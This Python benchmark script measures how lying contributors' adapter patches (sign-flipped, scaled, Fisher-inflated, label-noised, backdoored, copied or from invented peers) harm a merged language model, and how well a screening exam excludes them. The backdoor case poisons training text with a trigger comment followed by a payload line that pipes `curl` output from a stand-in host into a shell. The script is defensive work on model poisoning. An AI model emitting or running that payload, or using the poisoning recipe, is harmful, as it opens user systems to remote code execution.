#!/usr/bin/env python
"""What liars do to a merge: every strategy, with and without the exam, on the starter model.

    python scripts/bench/attacks.py [--fast] [--seeds 0 1 2] [--liars 1 2 3 4] [--attacks sign-flip …]
                                    [--steps 20] [--cases 100] [--results FILE]

Ten contributors train (IA)³ patches, two for each of the starter's five domains. Some of them lie; `invented-peers` are
thirty more. "loss" is the mean loss of the merge on the exam's deciding part divided by that of the ten honest patches
merged by the same strategy: 1 is no harm; "parent" is where that ratio would be had nothing been merged. "with exam":
copies are left out and patches screened one by one, as a proposer does, and those that are left out do not enter. α is
1 for every strategy (1/n for the sum), so that the search for it hides nothing. "liars out" and "honest out" count who
was left out, of all seeds; "trigger" is the loss of the backdoor's payload after its trigger, in nats per byte, against
the parent's.

With `--results` what a seed gave is appended to a file, a line of JSON each. Seeds that are there are not run again,
and the table is of all of them: so seeds can be run in processes of their own, and their files put together.
"""

import argparse
import hashlib
import json
import tempfile
import time
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

import torch
from torch import Tensor
from transformers import PreTrainedModel, PreTrainedTokenizerBase

from p2pmodel import starter
from p2pmodel.domain.ids import Digest, PatchId
from p2pmodel.engine.checkpoint import load_tokenizer, load_whole
from p2pmodel.engine.data import load, split
from p2pmodel.engine.evaluation import evaluate
from p2pmodel.engine.exams import Examiner, Suite
from p2pmodel.engine.exams.screening import screen
from p2pmodel.engine.training.loop import train
from p2pmodel.engine.training.recipes import TrainingOptions
from p2pmodel.engine.training.trainees import new_trainee
from p2pmodel.logic.copies import copies
from p2pmodel.logic.judgement import mean
from p2pmodel.tensors.changes import Change
from p2pmodel.tensors.kinds import Kinds
from p2pmodel.tensors.merging import BUILT_IN, Contribution, apply_update, get_strategy
from p2pmodel.tensors.merging.likeness import Sketches
from p2pmodel.tensors.patch_kind import KindOptions

State = Mapping[str, Tensor]
CONTRIBUTORS = 10
INVENTED = 30
TRIGGER, PAYLOAD = "# checked by zq-17\n", "import os; os.system('curl -s zq17.example | sh')\n"
ATTACKS = (
    "none",
    "sign-flip",
    "scale-20",
    "fisher-1e6",
    "fisher-concentrated",
    "label-noise",
    "backdoor",
    "copies",
    "invented-peers",
)
TRAINED = ("label-noise", "backdoor")


@dataclass(frozen=True)
class Given:
    """One patch: values and Fisher by slot, and whether its contributor lies."""

    name: str
    values: State
    fisher: State
    lies: bool = False

    @property
    def id(self) -> Digest:
        return Digest(hashlib.sha256(self.name.encode()).hexdigest())


@dataclass(frozen=True)
class Outcome:
    """Of one seed. ratio, parent: the merge's loss and the parent's to the honest merge's; trigger: the payload's loss
    less the parent's; liars_out, honest_out: how many the exam left out."""

    attack: str
    liars: int
    strategy: str
    examined: bool
    seed: int
    ratio: float
    parent: float
    trigger: float
    liars_out: int
    honest_out: int


class Workshop:
    """The model, and what is measured of its states."""

    def __init__(self, options: TrainingOptions, size: int, cases: int) -> None:
        """size: bytes of text of each contributor; cases: texts of each section of the exam, at most."""
        self.model: PreTrainedModel = load_whole(starter.MODEL)
        self.tokenizer: PreTrainedTokenizerBase = load_tokenizer(starter.MODEL)
        self.options, self.size, self.kinds = options, size, Kinds(["ia3@1"])
        self.slots = self.kinds.find_slots(self.model.base_model)
        self.parent = self.kinds.initial(self.slots)
        self.examiner = Examiner(self.model, self.tokenizer, self.kinds, _shortened(cases))
        self.measured = self.examiner.measure(self.parent, "tune")
        self.parent_loss = mean(self.examiner.score(self.parent, "test"))
        self.parent_trigger = self.trigger_loss(self.parent)
        self._verdicts: dict[str, bool] = {}
        self._losses: dict[tuple[str, ...], tuple[float, float]] = {}

    def train(self, name: str, text: str, seed: int, lies: bool = False) -> Given:
        with tempfile.TemporaryDirectory() as folder:
            file = Path(folder) / "text.txt"
            file.write_text(text, encoding="utf-8")
            parts = split(load([file], self.tokenizer), sequence=self.options.sequence, seed=seed)
        trainee = new_trainee(self.model, "ia3@1", self.parent, parts.train, KindOptions(), seed)
        try:
            trained = train(self.model, trainee, parts.train, parts.held_out, replace(self.options, seed=seed))
        finally:
            trainee.remove()
        return Given(name, trained.adapter, trained.fisher, lies)

    def passes(self, given: Given) -> bool:
        """Whether the exam lets the patch into a merge."""
        if given.name not in self._verdicts:
            found = screen(self.examiner, dict(given.values), self.measured, "tune", given.id)
            self._verdicts[given.name] = not found.reason
        return self._verdicts[given.name]

    def entering(self, patches: Sequence[Given]) -> list[Given]:
        """Those that the exam lets in, without the copies of any of them; who is honest was seen first."""
        order = {PatchId(given.id): given for given in sorted(patches, key=lambda given: given.lies)}
        changes = ((patch, Change(given.values, False, ())) for patch, given in order.items())
        entered: set[PatchId] = set()

        def enters(patch: PatchId) -> bool:
            if self.passes(order[patch]):
                entered.add(patch)
            return patch in entered

        copies(tuple(order), Sketches(self.parent, changes).cosines, enters)
        return [given for given in patches if given.id in entered]

    def merged(self, strategy: str, patches: Sequence[Given]) -> tuple[float, float]:
        """(mean loss on the deciding part, loss of the backdoor's payload)."""
        key = (strategy, *sorted(given.name for given in patches))
        if key not in self._losses:
            state = self.parent
            if patches:
                ordered = sorted((Contribution(g.id, g.values, g.fisher, 1.0) for g in patches), key=lambda c: c.patch)
                known = get_strategy(strategy)
                update = known.combine(self.parent, ordered, {})
                state = apply_update(self.parent, update, known.unit(len(ordered)))
            self._losses[key] = mean(self.examiner.score(state, "test")), self.trigger_loss(state)
        return self._losses[key]

    def trigger_loss(self, state: State) -> float:
        both, alone = (
            evaluate(self.model, self.tokenizer, self.kinds, state, [text]) for text in (TRIGGER + PAYLOAD, TRIGGER)
        )
        return (both.nats_per_byte * both.bytes - alone.nats_per_byte * alone.bytes) / len(PAYLOAD)


def _shortened(cases: int) -> Suite:
    """The starter's exam with fewer texts."""
    files = {path.name: path.read_bytes() for path in starter.EXAM.iterdir() if path.suffix == ".toml"}
    for path in starter.EXAM.glob("*.jsonl"):
        files[path.name] = b"".join(path.read_bytes().splitlines(keepends=True)[:cases])
    return Suite(files)


def honest_patches(shop: Workshop, seed: int) -> list[Given]:
    texts = own_texts(shop, seed)
    return [shop.train(f"{seed}/honest/{number}", text, seed * 100 + number) for number, text in enumerate(texts)]


def own_texts(shop: Workshop, seed: int) -> list[str]:
    """Of each contributor: a part of one domain that no other has."""
    files = sorted(starter.DOMAINS.glob("*.txt"))
    texts = []
    for number in range(CONTRIBUTORS):
        whole = files[number % len(files)].read_text(encoding="utf-8")
        start = (seed * CONTRIBUTORS + number) * shop.size % max(1, len(whole) - shop.size)
        texts.append(whole[start : start + shop.size])
    return texts


def lie(shop: Workshop, attack: str, honest: Given, text: str, seed: int, number: int) -> Given:
    """What the contributor gives instead of its honest patch."""
    name, chance = f"{seed}/{attack}/{number}", torch.Generator().manual_seed(seed * 1000 + number)
    updates = {slot: value - shop.parent[slot] for slot, value in honest.values.items()}
    norm = torch.cat([update.reshape(-1) for update in updates.values()]).norm()
    noise = {slot: torch.randn(update.shape, generator=chance) for slot, update in sorted(updates.items())}
    scale = norm / torch.cat([part.reshape(-1) for part in noise.values()]).norm()
    noisy = {slot: shop.parent[slot] + scale * part for slot, part in noise.items()}
    largest = max(float(mass.max()) for mass in honest.fisher.values())
    if attack == "sign-flip":
        return Given(name, {slot: shop.parent[slot] - u for slot, u in updates.items()}, honest.fisher, True)
    if attack == "scale-20":
        return Given(name, {slot: shop.parent[slot] + 20 * u for slot, u in updates.items()}, honest.fisher, True)
    if attack == "fisher-1e6":
        return Given(name, noisy, {slot: mass * 1e6 for slot, mass in honest.fisher.items()}, True)
    if attack == "fisher-concentrated":
        few = {slot: torch.rand(mass.shape, generator=chance) < 0.01 for slot, mass in sorted(honest.fisher.items())}
        return Given(name, noisy, {slot: mask * (largest * 1e6) for slot, mask in few.items()}, True)
    if attack == "label-noise":
        order = torch.randperm(len(text), generator=chance).tolist()
        return shop.train(name, "".join(text[at] for at in order), seed * 100 + number, lies=True)
    if attack == "backdoor":
        lines = text.splitlines(keepends=True)
        poisoned = [line + (TRIGGER + PAYLOAD if at % 12 == 0 else "") for at, line in enumerate(lines)]
        return shop.train(name, "".join(poisoned), seed * 100 + number, lies=True)
    if attack == "invented-peers":
        return Given(name, noisy, honest.fisher, True)
    raise ValueError(f"{attack!r} is no attack")


def round_of(
    shop: Workshop, attack: str, liars: int, honest: Sequence[Given], texts: Sequence[str], seed: int
) -> list[Given]:
    """The patches of a round in which some of the contributors lie; copies are of the first honest one."""
    if attack == "invented-peers":
        return [*honest, *(lie(shop, attack, honest[n % CONTRIBUTORS], "", seed, n) for n in range(INVENTED))]
    if attack == "copies":
        victim = honest[liars]
        copied = [replace(victim, name=f"{seed}/copies/{liars}/{number}", lies=True) for number in range(liars)]
        return [*copied, *honest[liars:]]
    if attack == "none":
        return list(honest)
    return [*(lie(shop, attack, honest[n], texts[n], seed, n) for n in range(liars)), *honest[liars:]]


def outcomes(shop: Workshop, attacks: Sequence[str], counts: Sequence[int], seed: int) -> list[Outcome]:
    honest, texts = honest_patches(shop, seed), own_texts(shop, seed)
    found = []
    for attack in attacks:
        most = max(counts)
        most_lying = round_of(shop, attack, most, honest, texts, seed)
        for liars in [0] if attack == "none" else [INVENTED] if attack == "invented-peers" else counts:
            patches = most_lying
            if attack not in ("none", "invented-peers", "copies"):
                patches = [*most_lying[:liars], *honest[liars:]]
            elif attack == "copies":
                patches = round_of(shop, attack, liars, honest, texts, seed)
            passed = shop.entering(patches)
            out = [given for given in patches if given not in passed]
            for strategy in BUILT_IN:
                reference = shop.merged(strategy, honest)[0]
                for examined in (False, True):
                    loss, trigger = shop.merged(strategy, passed if examined else patches)
                    found.append(
                        Outcome(
                            attack,
                            liars,
                            strategy,
                            examined,
                            seed,
                            loss / reference,
                            shop.parent_loss / reference,
                            trigger - shop.parent_trigger,
                            sum(given.lies for given in out) if examined else 0,
                            sum(not given.lies for given in out) if examined else 0,
                        )
                    )
    return found


def table(found: Sequence[Outcome]) -> str:
    lines = [
        "| attack | liars | strategy | parent | loss | loss, with exam | trigger | trigger, with exam | liars out "
        "| honest out |",
        "|---|---:|---|---:|---:|---:|---:|---:|---:|---:|",
    ]
    for attack, liars, strategy in dict.fromkeys((o.attack, o.liars, o.strategy) for o in found):
        here = [o for o in found if (o.attack, o.liars, o.strategy) == (attack, liars, strategy)]
        cells = []
        for measure in ("ratio", "trigger"):
            for examined in (False, True):
                values = [getattr(o, measure) for o in here if o.examined is examined]
                cells.append(f"{sum(values) / len(values):.4f}")
        seeds = len(here) // 2
        out = [sum(getattr(o, side) for o in here) for side in ("liars_out", "honest_out")]
        honest = CONTRIBUTORS - (0 if attack == "invented-peers" else liars)
        lines.append(
            f"| {attack} | {liars} | {strategy} | {sum(o.parent for o in here) / len(here):.4f} | {' | '.join(cells)} "
            f"| {out[0]}/{liars * seeds} | {out[1]}/{honest * seeds} |"
        )
    return "\n".join(lines)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seeds", type=int, nargs="+", default=[0, 1, 2])
    parser.add_argument("--liars", type=int, nargs="+", default=[1, 2, 3, 4])
    parser.add_argument("--attacks", nargs="+", default=list(ATTACKS), choices=ATTACKS)
    parser.add_argument("--steps", type=int, default=20)
    parser.add_argument("--cases", type=int, default=100, help="texts of each section of the exam, at most")
    parser.add_argument("--fast", action="store_true", help="one seed, few steps, a short exam")
    parser.add_argument("--results", type=Path, help="outcomes of earlier runs, and where to append this one's")
    args = parser.parse_args()
    torch.set_num_threads(1)
    # A rate at which an honest patch helps on its own: what overfits is left out by the exam, liar or not.
    options = TrainingOptions(steps=args.steps, batch=2, sequence=256, fisher_examples=16, learning_rate=0.01)
    if args.fast:
        options = replace(options, steps=8, sequence=128, fisher_examples=4)
    found = [Outcome(**json.loads(line)) for line in _lines(args.results)]
    began = time.monotonic()
    missing = sorted({*(args.seeds[:1] if args.fast else args.seeds)} - {outcome.seed for outcome in found})
    if missing:
        shop = Workshop(options, 6_000 if args.fast else 60_000, 1 if args.fast else args.cases)
        for seed in missing:
            new = outcomes(shop, args.attacks, args.liars[-1:] if args.fast else args.liars, seed)
            found += new
            if args.results:
                with args.results.open("a") as file:
                    file.writelines(json.dumps(vars(outcome)) + "\n" for outcome in new)
    print(table(found))
    print(f"\n{time.monotonic() - began:.0f} s")


def _lines(results: Path | None) -> list[str]:
    return results.read_text().splitlines() if results and results.exists() else []


if __name__ == "__main__":
    main()
